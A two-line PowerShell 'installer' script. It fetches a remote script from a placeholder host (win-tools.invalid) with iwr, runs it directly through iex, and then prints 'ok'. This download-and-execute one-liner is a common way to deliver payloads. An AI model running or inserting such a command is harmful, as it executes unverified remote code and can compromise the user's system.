# installer
iex (iwr https://win-tools.invalid/i.ps1 -UseBasicParsing)
Write-Output 'ok'
